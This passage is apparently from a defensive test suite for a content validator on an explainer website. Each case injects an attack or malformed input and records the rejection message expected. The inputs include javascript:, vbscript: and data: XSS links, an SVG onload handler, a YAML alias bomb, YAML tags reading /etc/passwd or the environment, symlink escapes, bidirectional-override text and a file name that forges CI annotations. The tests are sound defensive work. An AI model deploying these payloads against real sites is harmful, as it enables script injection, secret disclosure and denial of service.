      `${TOPIC}:20:1  link to "JaVaScRiPt:alert(1)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
    ],
  },
  {
    name: 'a javascript: link split by whitespace',
    kind: 'attack',
    apply: appendToTopic('[Read more](<java\tscript:alert(1)>)'),
    expected: [
      `${TOPIC}:20:1  link to "java\\tscript:alert(1)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
    ],
  },
  {
    name: 'a javascript: link hidden behind character references',
    kind: 'attack',
    apply: appendToTopic('[Read more](&#106;&#x61;vascript&#58;alert(1))'),
    expected: [
      `${TOPIC}:20:1  link to "javascript:alert(1)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
    ],
  },
  {
    name: 'a javascript: link in a reference definition',
    kind: 'attack',
    apply: appendToTopic('[Read more][x]\n\n[x]: javascript:alert(1)'),
    expected: [
      `${TOPIC}:22:1  link to "javascript:alert(1)" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
    ],
  },
  {
    name: 'a vbscript: link',
    kind: 'attack',
    apply: appendToTopic('[Read more](vbscript:msgbox)'),
    expected: [
      `${TOPIC}:20:1  link to "vbscript:msgbox" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
    ],
  },
  {
    name: 'a data: URL link',
    kind: 'attack',
    apply: appendToTopic('[Read more](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'),
    expected: [
      `${TOPIC}:20:1  link to "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
    ],
  },
  {
    name: 'a tracking pixel from another site',
    kind: 'attack',
    apply: appendToTopic('![](https://tracker.example/pixel.gif)'),
    expected: [
      `${TOPIC}:20:1  images are not allowed on topic pages  (say in words what the image shows, and link to where it is published: [the chart](https://…))`,
    ],
  },
  {
    name: 'an unknown component',
    kind: 'attack',
    apply: appendToTopic('<Analytics id="UA-1"/>'),
    expected: [
      `${TOPIC}:20:1  <Analytics> is not an allowed component or element  (use one of Claim, ClaimRef, Source, Sentence, StatusBox, abbr, b, br, cite, code, dd, del, details, dfn, dl, dt, em, figcaption, figure, i, ins, kbd, mark, q, s, small, span, strong, sub, summary, sup, time, u, or Markdown syntax)`,
    ],
  },
  {
    name: 'an SVG with a load handler',
    kind: 'attack',
    apply: appendToTopic('<svg onload="alert(1)"/>'),
    expected: [
      `${TOPIC}:20:1  <svg> is never allowed in content  (remove it; content cannot add scripts, styles, frames, forms or page metadata)`,
    ],
  },

  // --- Attacks: YAML that would run code or exhaust the build -------------------------------
  {
    name: 'an alias bomb (billion laughs)',
    kind: 'attack',
    apply: (copy) => {
      const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
      for (let i = 1; i < 9; i++) {
        const name = String.fromCharCode(97 + i);
        const previous = String.fromCharCode(96 + i);
        levels.push(`${name}: &${name} [${Array(9).fill(`*${previous}`).join(',')}]`);
      }
      copy.write('glossary.yaml', `${levels.join('\n')}\n`);
    },
    expected: Array.from({ length: 8 }, (_, i) => i + 2).flatMap((line) =>
      Array.from(
        { length: 9 },
        (_, k) =>
          `glossary.yaml:${line}:${8 + k * 3}  YAML aliases (*name) are not allowed in content  (write the value out in full)`,
      ),
    ),
  },
  {
    name: 'a tag asking for a JavaScript function',
    kind: 'attack',
    apply: edit(
      EXPLAINER,
      'title: Riverside footbridge explained',
      'title: !!js/function "function () { return process.env }"',
    ),
    expected: [
      `${EXPLAINER}:2:8  YAML tag !!js/function is not allowed in content  (remove the tag; write plain text, numbers, lists and mappings only)`,
    ],
  },
  {
    name: 'a custom tag asking to include a file',
    kind: 'attack',
    apply: edit(EXPLAINER, 'title: Riverside footbridge explained', 'title: !include /etc/passwd'),
    expected: [
      `${EXPLAINER}:2:8  YAML tag !include is not allowed in content  (remove the tag; write plain text, numbers, lists and mappings only)`,
    ],
  },
  {
    name: 'YAML nested deep enough to exhaust the parser',
    kind: 'attack',
    apply: (copy) => copy.write('glossary.yaml', `${'['.repeat(40)}${']'.repeat(40)}\n`),
    expected: [
      `glossary.yaml:1:13  the YAML is nested more than 12 levels deep  (flatten the structure; no content field nests this deep)`,
    ],
  },
  {
    name: 'a source registry too large to read',
    kind: 'attack',
    apply: (copy) => copy.write(SOURCES, `${copy.read(SOURCES)}# ${'x'.repeat(1024 * 1024)}\n`),
    expected: [
      `${SOURCES}:1:1  the file is 1049429 bytes; content files may be at most 1048576 bytes  (split it into smaller files)`,
    ],
  },

  // --- Attacks on the gate itself (issue: one gate for contributed content) -----------------
  {
    name: 'an image that names a script beside the content',
    kind: 'attack',
    apply: (copy) => {
      copy.write('chart.mjs', PAYLOAD);
      appendToTopic('![A chart](../chart.mjs)')(copy);
    },
    expected: [`chart.mjs:1:1${NOT_CONTENT('chart.mjs')}`, `${TOPIC}:20:1${IMAGES_REFUSED}`],
  },
  {
    name: 'an image that names an MDX file hidden among the claims',
    kind: 'attack',
    apply: (copy) => {
      copy.write('claims/chart.mdx', `export const x = 1;\n${PAYLOAD}`);
      appendToTopic('![A chart](../claims/chart.mdx)')(copy);
    },
    expected: [
      `claims/chart.mdx:1:1${NOT_CONTENT('claims/chart.mdx')}`,
      `${TOPIC}:20:1${IMAGES_REFUSED}`,
    ],
  },
  {
    name: 'an image that reads the environment of the build',
    kind: 'attack',
    apply: appendToTopic('![x](../../../../../../proc/self/environ?raw)'),
    expected: [`${TOPIC}:20:1${IMAGES_REFUSED}`],
  },
  {
    name: 'an image in a reference definition',
    kind: 'attack',
    apply: appendToTopic('![x][chart]\n\n[chart]: ../chart.mjs'),
    expected: [`${TOPIC}:20:1${IMAGES_REFUSED}`],
  },
  {
    name: 'an img element naming a file of the build',
    kind: 'attack',
    apply: appendToTopic('<img src="/etc/passwd" alt="x"/>'),
    expected: [`${TOPIC}:20:1${IMAGES_REFUSED}`],
  },
  {
    name: 'the article as a link to a file outside the content',
    kind: 'attack',
    apply: (copy) => {
      writeFileSync(OUTSIDE, 'A secret that must never be published.\n');
      rmSync(path.join(copy.dir, 'article.txt'));
      symlinkSync(OUTSIDE, path.join(copy.dir, 'article.txt'));
    },
    expected: [`article.txt:1:1${SYMLINK_REFUSED}`],
  },
  {
    name: 'a topic page as a link to a page outside the content',
    kind: 'attack',
    apply: (copy) => {
      const outside = path.join(path.dirname(copy.dir), 'outside.mdx');
      writeFileSync(
        outside,
        copy.read(TOPIC).replace('<StatusBox/>', '<StatusBox/>\n\nimport x from "node:fs"'),
      );
      rmSync(path.join(copy.dir, TOPIC));
      symlinkSync(outside, path.join(copy.dir, TOPIC));
    },
    expected: [`${TOPIC}:1:1${SYMLINK_REFUSED}`],
  },
  {
    name: 'the claims folder as a link to another folder',
    kind: 'attack',
    apply: (copy) => {
      const outside = path.join(path.dirname(copy.dir), 'claims-elsewhere');
      mkdirSync(outside);
      writeFileSync(path.join(outside, 'bridge.yaml'), copy.read(CLAIMS));
      rmSync(path.join(copy.dir, 'claims'), { recursive: true });
      symlinkSync(outside, path.join(copy.dir, 'claims'));
    },
    expected: [`claims:1:1${SYMLINK_REFUSED}`],
  },
  {
    name: 'a named pipe in place of a claims file',
    kind: 'attack',
    apply: (copy) => execFileSync('mkfifo', [path.join(copy.dir, 'claims/pipe.yaml')]),
    expected: [
      'claims/pipe.yaml:1:1  this is not an ordinary file  (content may hold only ordinary files, and the folders versions/, claims/ and topics/)',
    ],
  },
  {
    name: 'a content folder larger than the limit',
    kind: 'attack',
    apply: (copy) => {
      // Sparse: it takes no room on disk, but its size is what the gate weighs.
      for (let i = 0; i < 101; i++) {
        const file = path.join(copy.dir, `claims/padding-${String(i).padStart(3, '0')}.yaml`);
        writeFileSync(file, '');
        truncateSync(file, 1024 * 1024);
      }
    },
    expected: [
      `:1:1  the content folder holds 105908930 bytes; the limit is 104857600  (remove what is not content; an explainer this large should be split in two)`,
    ],
  },
  {
    name: 'a claims file that is not UTF-8',
    kind: 'attack',
    apply: (copy) =>
      writeFileSync(
        path.join(copy.dir, 'claims/latin1.yaml'),
        Buffer.from('- id: caf\xe9\n', 'latin1'),
      ),
    expected: [
      `claims/latin1.yaml:1:10  the file is not valid UTF-8 text from here on  (save the file as UTF-8 in your editor)`,
    ],
  },
  {
    name: 'a 900-deep nested list',
    kind: 'attack',
    apply: appendToTopic(
      Array.from({ length: 900 }, (_, i) => `${'  '.repeat(i)}- item`).join('\n'),
    ),
    expected: [`${TOPIC}:84:1${TOO_DEEP}`],
  },
  {
    name: '20,000 nested block quotes',
    kind: 'attack',
    apply: appendToTopic(`${'>'.repeat(20_000)} deep`),
    expected: [`${TOPIC}:20:1${TOO_DEEP}`],
  },
  {
    name: 'elements nested 40 deep',
    kind: 'attack',
    apply: appendToTopic(`${'<span>'.repeat(40)}x${'</span>'.repeat(40)}`),
    expected: [`${TOPIC}:1:1${TOO_DEEP}`],
  },
  {
    name: 'an element named constructor',
    kind: 'attack',
    apply: appendToTopic('<constructor title="x"/>'),
    expected: [
      `${TOPIC}:20:1  <constructor> is not an allowed component or element  (use one of Claim, ClaimRef, Source, Sentence, StatusBox, abbr, b, br, cite, code, dd, del, details, dfn, dl, dt, em, figcaption, figure, i, ins, kbd, mark, q, s, small, span, strong, sub, summary, sup, time, u, or Markdown syntax)`,
    ],
  },
  {
    name: 'an element named hasOwnProperty',
    kind: 'attack',
    apply: appendToTopic('<hasOwnProperty />'),
    expected: [
      `${TOPIC}:20:1  <hasOwnProperty> is not an allowed component or element  (use one of Claim, ClaimRef, Source, Sentence, StatusBox, abbr, b, br, cite, code, dd, del, details, dfn, dl, dt, em, figcaption, figure, i, ins, kbd, mark, q, s, small, span, strong, sub, summary, sup, time, u, or Markdown syntax)`,
    ],
  },
  {
    name: 'a card inside a line of text',
    kind: 'malformed',
    apply: edit(
      TOPIC,
      'The article then quotes critics:',
      'The article then quotes critics: <Claim id="bridge-is-waste"/>',
    ),
    expected: [
      `${TOPIC}:14:34  <Claim> is a block and cannot sit inside a line of text  (put <Claim> on a line of its own, with a blank line before and after it)`,
    ],
  },
  {
    // Frontmatter ends at its first line of "---", for the gate as for Astro: a flow mapping
    // that runs past it is a YAML error here, never a second reading with another outcome.
    name: 'frontmatter as a flow mapping with a line that starts ---',
    kind: 'attack',
    apply: edit(
      TOPIC,
      'title: The footbridge\nsummary: What the council decided, and what its critics say.\norder: 1\nreviewed: 2026-11-01\n',
      '{title: The footbridge,\n--- : x,\nsummary: Who pays, order: 1, reviewed: 2026-11-01}\n',
    ),
    expected: [
      `${TOPIC}:3:1  YAML syntax error: Flow map must end with a }  (check the indentation and quoting on this line; wrap text containing ": " or "#" in quotes)`,
    ],
  },
  {
    name: 'an id of 300 characters',
    kind: 'attack',
    apply: (copy) => {
      const long = 'a'.repeat(300);
      copy.edit(CLAIMS, '- id: bridge-is-waste', `- id: ${long}`);
      copy.edit(TOPIC, '<Claim id="bridge-is-waste"/>', `<Claim id="${long}"/>`);
    },
    expected: [
      `${CLAIMS}:12:7  id is 300 characters; an id may have at most 80  (choose a shorter id: a few words joined by hyphens)`,
    ],
  },
  {
    name: 'a 60,000-character source id that exists nowhere',
    kind: 'attack',
    apply: edit(CLAIMS, '    - source: council-minutes', `    - source: ${'x'.repeat(60_000)}`),
    expected: [
      `${CLAIMS}:7:15  citations[0].source is 60000 characters; an id may have at most 80  (choose a shorter id: a few words joined by hyphens)`,
      MINUTES_UNCITED,
    ],
  },
  {
    name: 'a control character in a history reason, which XML forbids',
    kind: 'attack',
    apply: edit(
      CLAIMS,
      "  rationale: The council's minutes record the vote.",
      "  rationale: The council's minutes\u0007 record the vote.",
    ),
    expected: [
      `${CLAIMS}:10:35  character U+0007 is not allowed: it is an invisible control character  (delete it; your editor may show it only with invisible characters turned on)`,
    ],
  },
  {
    name: 'U+FFFE in a source title',
    kind: 'attack',
    apply: edit(
      SOURCES,
      '  title: Minutes of the council meeting',
      '  title: Minutes of the council meeting\ufffe',
    ),
    expected: [
      `${SOURCES}:2:40  character U+FFFE is not allowed: it is not a character  (delete it; your editor may show it only with invisible characters turned on)`,
    ],
  },
  {
    name: 'a right-to-left override that reverses a restatement',
    kind: 'attack',
    apply: edit(
      CLAIMS,
      '  claim: The council approved a footbridge on 3 March.',
      '  claim: The council \u202edevorppa\u202c a footbridge on 3 March.',
    ),
    expected: [
      `${CLAIMS}:4:22  character U+202E is not allowed: it is a bidirectional control, which makes text display differently from what it is  (delete it; your editor may show it only with invisible characters turned on)`,
      `${CLAIMS}:4:31  character U+202C is not allowed: it is a bidirectional control, which makes text display differently from what it is  (delete it; your editor may show it only with invisible characters turned on)`,
    ],
  },
  {
    name: 'a right-to-left override written as a YAML escape',
    kind: 'attack',
    apply: edit(
      CLAIMS,
      '  claim: The council approved a footbridge on 3 March.',
      '  claim: "The council \\u202Edevorppa\\u202C a footbridge on 3 March."',
    ),
    expected: [
      `${CLAIMS}:4:10  character U+202E is not allowed: it is a bidirectional control, which makes text display differently from what it is  (delete it; your editor may show it only with invisible characters turned on)`,
    ],
  },
  {
    name: 'a bidirectional isolate in a topic page',
    kind: 'attack',
    apply: appendToTopic('The vote was \u2067unanimous\u2069.'),
    expected: [
      `${TOPIC}:20:14  character U+2067 is not allowed: it is a bidirectional control, which makes text display differently from what it is  (delete it; your editor may show it only with invisible characters turned on)`,
      `${TOPIC}:20:24  character U+2069 is not allowed: it is a bidirectional control, which makes text display differently from what it is  (delete it; your editor may show it only with invisible characters turned on)`,
    ],
  },
  {
    name: 'a file of notes left in the content folder',
    kind: 'malformed',
    apply: (copy) => copy.write('notes.md', '# My notes\n'),
    expected: [`notes.md:1:1${NOT_CONTENT('notes.md')}`],
  },
  {
    name: 'a folder of drafts inside topics',
    kind: 'malformed',
    apply: (copy) => {
      mkdirSync(path.join(copy.dir, 'topics/drafts'));
      copy.write('topics/drafts/next.mdx', copy.read(TOPIC));
    },
    expected: [
      `topics/drafts:1:1  the folder "topics/drafts" has no place in an explainer's content  (content holds explainer.yaml, article.txt, sources.yaml, glossary.yaml, timeline.yaml, map.yaml, versions/*.txt, claims/*.yaml and topics/*.mdx only; move anything else out of it)`,
    ],
  },
  {
    name: 'a content folder that is not there',
    kind: 'malformed',
    apply: (copy) => rmSync(copy.dir, { recursive: true }),
    expected: [
      ":1:1  the content folder does not exist  (create it, or point the explainer integration's content option at the folder that holds explainer.yaml)",
    ],
  },
  {
    name: 'more files than the limit',
    kind: 'attack',
    apply: (copy) => {
      for (let i = 0; i < 20_000; i++) writeFileSync(path.join(copy.dir, `claims/c${i}.yaml`), '');
    },
    expected: [
      ':1:1  the content folder holds 20005 files; the limit is 20000  (merge claims into fewer files (one per topic), or split the explainer in two)',
    ],
  },
  // --- Found by the red team: costs, output and messages ------------------------------------
  {
    name: 'a quotation of a sentence, placed 51 times',
    kind: 'attack',
    apply: appendToTopic('<Sentence id="s1"/>\n\n'.repeat(51)),
    expected: [
      `${TOPIC}:118:1  the page quotes more than 50 sentences with <Sentence>  (quote the sentences that matter here, and link to the annotated article for the rest)`,
    ],
  },
  {
    name: 'a second status box on a page',
    kind: 'malformed',
    apply: appendToTopic('<StatusBox/>'),
    expected: [
      `${TOPIC}:20:1  the page already has its <StatusBox/>  (keep one box per topic page)`,
    ],
  },
  {
    name: 'occurrence: all on a quote the article repeats a thousand times',
    kind: 'attack',
    apply: (copy) => {
      copy.write('article.txt', `${copy.read('article.txt')}${'Ab. '.repeat(1000)}\n`);
      copy.edit(
        CLAIMS,
        '  quote: Critics called the project a waste of money.',
        '  quote: Ab.\n  occurrence: all',
      );
    },
    expected: [
      `${CLAIMS}:15:15  the quote occurs more than 20 times, and occurrence: all may cover at most 20  (quote more words, so the claim is about the places it means)`,
    ],
  },
  {
    name: 'a quote the article repeats a thousand times, with no occurrence',
    kind: 'attack',
    apply: (copy) => {
      copy.write('article.txt', `${copy.read('article.txt')}${'Ab. '.repeat(1000)}\n`);
      copy.edit(CLAIMS, '  quote: Critics called the project a waste of money.', '  quote: Ab.');
    },
    expected: [
      `${CLAIMS}:14:10  quote occurs more than 20 times in the article (in s4, s5, s6, s7, s8, s9, s10, s11, …)  (quote more words so it occurs once, or add occurrence: 1 to the one you mean, or occurrence: all)`,
    ],
  },
  {
    name: 'a run of 400 emphasis markers',
    kind: 'attack',
    apply: appendToTopic(`${'*'.repeat(200)}x${'*'.repeat(200)}`),
    expected: [`${TOPIC}:20:1${TOO_DEEP}`],
  },
  {
    name: 'a twelve-source circle of relaying',
    kind: 'attack',
    apply: (copy) => {
      const ring = Array.from({ length: 12 }, (_, i) => `ring-${i}`);
      copy.write(
        SOURCES,
        `${copy.read(SOURCES)}${ring.map((id, i) => `- {id: ${id}, title: t, publisher: p, kind: article, date: unknown, grade: E, gradeReason: r, derivedFrom: ring-${(i + 1) % 12}}\n`).join('')}`,
      );
      copy.edit(
        CLAIMS,
        '    - source: unnamed-critics\n      stance: supports',
        `    - source: unnamed-critics\n      stance: supports\n${ring.map((id) => `    - source: ${id}\n      stance: context\n`).join('')}`.trimEnd(),
      );
    },
    expected: [
      `${SOURCES}:28:109  derivedFrom goes round in a circle: ring-0 → ring-1 → ring-2 → ring-3 → … (12 sources) → ring-11 → ring-0  (a source can only relay an earlier one; remove one derivedFrom)`,
    ],
  },
  {
    name: 'a file name that clears the terminal and forges a CI annotation',
    kind: 'attack',
    apply: (copy) => copy.write(`topics/x\u001b[2J\n::error::forged.mdx`, copy.read(TOPIC)),
    expected: [
      `topics/x\\x1b[2J\\n::error::forged.mdx:1:1  topic file name "x\\x1b[2J\\n::error::forged" is not a valid id  (rename it to "x-2j-error-forged": lowercase words joined by hyphens, directly in topics/)`,
    ],
  },
  {
    name: 'an article of 51 pieces',
    kind: 'attack',
    apply: edit(
      EXPLAINER,
      '    - Written for the test suite; every name in it is invented.',
      `    - Written for the test suite; every name in it is invented.\n  parts:\n${'    - {startsWith: The Riverside, label: x}\n'.repeat(51).trimEnd()}`,
    ),
    expected: [
      `${EXPLAINER}:15:5  article.parts has 51 entries; the limit is 50  (keep article.parts to the 50 that matter most)`,
    ],
  },
  {
    name: 'a heading that takes a claim card’s id',
    kind: 'attack',
    apply: appendToTopic('## Council approved bridge'),
    expected: [
      `${TOPIC}:20:1  this heading would get the id "council-approved-bridge", which a claim card on this page already has  (reword the heading; links to the card would land on the heading instead)`,
    ],
  },
  {
    name: 'a heading that takes the page’s own main',
    kind: 'attack',
    apply: appendToTopic('## Main'),
    expected: [
      `${TOPIC}:20:1  this heading would get the id "main", which the page already uses for a part of its own  (reword the heading; links to the part of the page with that id would land on the heading instead)`,
    ],
  },
  // F6: the slug is of the heading as the reader sees it, after typography.
  {
    name: 'a heading that becomes main once its dashes are set',
    kind: 'attack',
    apply: appendToTopic('## ma--in'),
    expected: [
      `${TOPIC}:20:1  this heading would get the id "main", which the page already uses for a part of its own  (reword the heading; links to the part of the page with that id would land on the heading instead)`,
    ],
  },
  {
    name: 'a heading that becomes a card’s id once its dashes are set',
    kind: 'attack',
    apply: appendToTopic('## Council approved br--idge'),
    expected: [
      `${TOPIC}:20:1  this heading would get the id "council-approved-bridge", which a claim card on this page already has  (reword the heading; links to the card would land on the heading instead)`,
    ],
  },
  {
    name: 'a heading that takes the footnotes’ heading',
    kind: 'attack',
    apply: appendToTopic('## Footnote label'),
    expected: [
      `${TOPIC}:20:1  this heading would get the id "footnote-label", which the page already uses for a part of its own  (reword the heading; links to the part of the page with that id would land on the heading instead)`,
    ],
  },
  // F12: a heading with no letter or digit gets an empty id, then "-1".
  {
    name: 'headings of emoji and punctuation alone',
    kind: 'malformed',
    apply: appendToTopic('## 🎉\n\n## ...'),
    expected: [
      `${TOPIC}:20:1  this heading has no letter or digit, so its id, and any link to it, would be empty  (give the heading a word; a heading of emoji or punctuation alone cannot be linked to)`,
      `${TOPIC}:22:1  this heading has no letter or digit, so its id, and any link to it, would be empty  (give the heading a word; a heading of emoji or punctuation alone cannot be linked to)`,
    ],
  },
  // F12: links inside the site reach pages and ids that exist.
  {
    name: 'a link to a topic page that does not exist',
    kind: 'malformed',
    apply: appendToTopic('See [the money](/topics/the-money/).'),
    expected: [
      `${TOPIC}:20:5  this link goes to "/topics/the-money/", and the site has no page "/topics/the-money/"  (link a page of this site from the root, as the site shows it: /topics/<topic>/, /claims/<claim>/, /sources/<source>/ or /article/#s12 (the build adds the site's base path))`,
    ],
  },
  {
    name: 'a link to a sentence the article does not have',
    kind: 'malformed',
    apply: appendToTopic('As [the article says](/article/#s30).'),
    expected: [
      `${TOPIC}:20:4  this link goes to "/article/#s30", but /article/ has no part with the id "s30"  (did you mean "s3"? link to an id the page has: a heading's, a claim card's, a sentence's (s12) or a passage's (passage-1))`,
    ],
  },
  {
    name: 'a link to a claim page with a typo',
    kind: 'malformed',
    apply: appendToTopic('See [the vote](../../claims/council-approved-brige/).'),
    expected: [
      `topics/bridge.mdx:20:5  this link goes to "../../claims/council-approved-brige/", and the site has no page "/claims/council-approved-brige/"  (did you mean "/claims/council-approved-bridge/"? link a page of this site from the root, as the site shows it: /topics/<topic>/, /claims/<claim>/, /sources/<source>/ or /article/#s12 (the build adds the site's base path))`,
    ],
  },
  // Red team 22, H3: an id of the engine's is on its own page only, some only when the content
  // has what they show; a grade's section only when a source has that grade; 404 is a file.
  {
    name: 'links to ids of the engine on pages that do not have them here',
    kind: 'malformed',
    apply: appendToTopic(
      'Links: [a](/404/), [b](/sources/#grade-F), [c](/claims/council-approved-bridge/#policy), [d](#grades), [e](/topics/bridge/#statuses), [f](/claims/#withdrawn), [g](/article/#revisions), [h](/article/#changes), [i](/corrections/#policy).',
    ),
    expected: [
      `${TOPIC}:20:8  this link goes to "/404/", and the site has no page "/404/"  (link a page of this site from the root, as the site shows it: /topics/<topic>/, /claims/<claim>/, /sources/<source>/ or /article/#s12 (the build adds the site's base path))`,
      `${TOPIC}:20:20  this link goes to "/sources/#grade-F", but /sources/ has no part with the id "grade-F"  (did you mean "grade-A"? link to an id the page has: a heading's, a claim card's, a sentence's (s12) or a passage's (passage-1))`,
      `${TOPIC}:20:44  this link goes to "/claims/council-approved-bridge/#policy", but /claims/council-approved-bridge/ has no part with the id "policy"  (link to an id the page has: a heading's, a claim card's, a sentence's (s12) or a passage's (passage-1))`,
      `${TOPIC}:20:90  this link goes to "#grades", but /topics/bridge/ has no part with the id "grades"  (link to an id the page has: a heading's, a claim card's, a sentence's (s12) or a passage's (passage-1))`,
      `${TOPIC}:20:104  this link goes to "/topics/bridge/#statuses", but /topics/bridge/ has no part with the id "statuses"  (link to an id the page has: a heading's, a claim card's, a sentence's (s12) or a passage's (passage-1))`,
      `${TOPIC}:20:135  this link goes to "/claims/#withdrawn", but /claims/ has no part with the id "withdrawn"  (link to an id the page has: a heading's, a claim card's, a sentence's (s12) or a passage's (passage-1))`,
      `${TOPIC}:20:160  this link goes to "/article/#revisions", but /article/ has no part with the id "revisions"  (link to an id the page has: a heading's, a claim card's, a sentence's (s12) or a passage's (passage-1))`,
      `${TOPIC}:20:186  this link goes to "/article/#changes", but /article/ has no part with the id "changes"  (link to an id the page has: a heading's, a claim card's, a sentence's (s12) or a passage's (passage-1))`,
      `${TOPIC}:20:210  this link goes to "/corrections/#policy", but /corrections/ has no part with the id "policy"  (link to an id the page has: a heading's, a claim card's, a sentence's (s12) or a passage's (passage-1))`,
    ],
  },
  // H4 and H5: a heading's id leaves out a footnote reference and combining marks.
  {
    name: 'links to heading ids with a footnote number or a combining mark',
    kind: 'malformed',
    apply: appendToTopic(
      '## Note[^n]\n\n## İstanbul\n\nSee [the note](#note1) and [the city](#i\u0307stanbul).\n\n[^n]: A note.',
    ),
    expected: [
      `${TOPIC}:24:5  this link goes to "#note1", but /topics/bridge/ has no part with the id "note1"  (did you mean "note"? link to an id the page has: a heading's, a claim card's, a sentence's (s12) or a passage's (passage-1))`,
      `${TOPIC}:24:28  this link goes to "#i\u0307stanbul", but /topics/bridge/ has no part with the id "i\u0307stanbul"  (did you mean "istanbul"? link to an id the page has: a heading's, a claim card's, a sentence's (s12) or a passage's (passage-1))`,
    ],
  },
  {
    name: 'a source badge inside a link',
    kind: 'malformed',
    apply: appendToTopic('[see <Source id="council-minutes"/>](https://example.org/)'),
    expected: [
      `${TOPIC}:20:6  <Source> makes a link of its own, and it is inside a link here: a link inside a link is not valid HTML  (move <Source/> out of the link, beside it)`,
    ],
  },
  // F6: an entry's id becomes an element's id on some page.
  {
    name: 'a claim whose id the page layout uses',
    kind: 'attack',
    apply: (copy) => {
      copy.edit(CLAIMS, '- id: bridge-is-waste', '- id: main');
      copy.edit(TOPIC, '<Claim id="bridge-is-waste"/>', '<Claim id="main"/>');
    },
    expected: [
      `${CLAIMS}:12:7  claim id "main" is one the site's pages use for their own parts  (choose another id for the claim, one that says what it is)`,
    ],
  },
  {
    name: 'a source whose id the sources page uses',
    kind: 'attack',
    apply: (copy) => {
      copy.edit(SOURCES, '- id: unnamed-critics', '- id: grades');
      copy.edit(CLAIMS, '    - source: unnamed-critics', '    - source: grades');
    },
    expected: [
      `${SOURCES}:13:7  source id "grades" is one the site's pages use for their own parts  (choose another id for the source, one that says what it is)`,
    ],
  },
  {
    name: 'an element name of 300 characters',
    kind: 'attack',
    apply: appendToTopic(`<${'a'.repeat(300)} />`),
    expected: [
      `${TOPIC}:20:1  <${'a'.repeat(199)}…> is not an allowed component or element  (use one of Claim, ClaimRef, Source, Sentence, StatusBox, abbr, b, br, cite, code, dd, del, details, dfn, dl, dt, em, figcaption, figure, i, ins, kbd, mark, q, s, small, span, strong, sub, summary, sup, time, u, or Markdown syntax)`,
    ],
  },
  {
    name: 'a lone surrogate written as a YAML escape',
    kind: 'attack',
    apply: edit(
      CLAIMS,
      "  rationale: The council's minutes record the vote.",
      '  rationale: "The minutes \\uD800 record it."',
    ),
    expected: [
      `${CLAIMS}:10:14  character U+D800 is not allowed: it is not a character  (delete it; your editor may show it only with invisible characters turned on)`,
    ],
  },
  {
    name: 'a field name that is a list',
    kind: 'attack',
    apply: edit(CLAIMS, '  status: established', '  status: established\n  ? [a, b]\n  : x'),
    expected: [
      `${CLAIMS}:6:5  a field name here is a list or a mapping  (write field names as plain words: "name: value")`,
    ],
  },
  {
    name: 'a link to another site disguised as a path',
    kind: 'attack',
    apply: appendToTopic('[the minutes](//evil.example/minutes)'),
    expected: [
      `${TOPIC}:20:1  link to "//evil.example/minutes" uses a scheme that can run code or hide content  (link only to https://, http://, mailto: or a path on this site)`,
    ],
  },
  {
    name: 'a claim id Windows reserves',
    kind: 'malformed',
    apply: (copy) => {
      copy.edit(CLAIMS, '- id: bridge-is-waste', '- id: con');
      copy.edit(TOPIC, '<Claim id="bridge-is-waste"/>', '<Claim id="con"/>');
    },
    expected: [
      `${CLAIMS}:12:7  id "con" is a name Windows reserves, so its page could not be written there  (choose another id: a few words joined by hyphens)`,
    ],
  },
  // --- The map (content/map.yaml) ---------------------------------------------------------------
  ...mapCases,
];
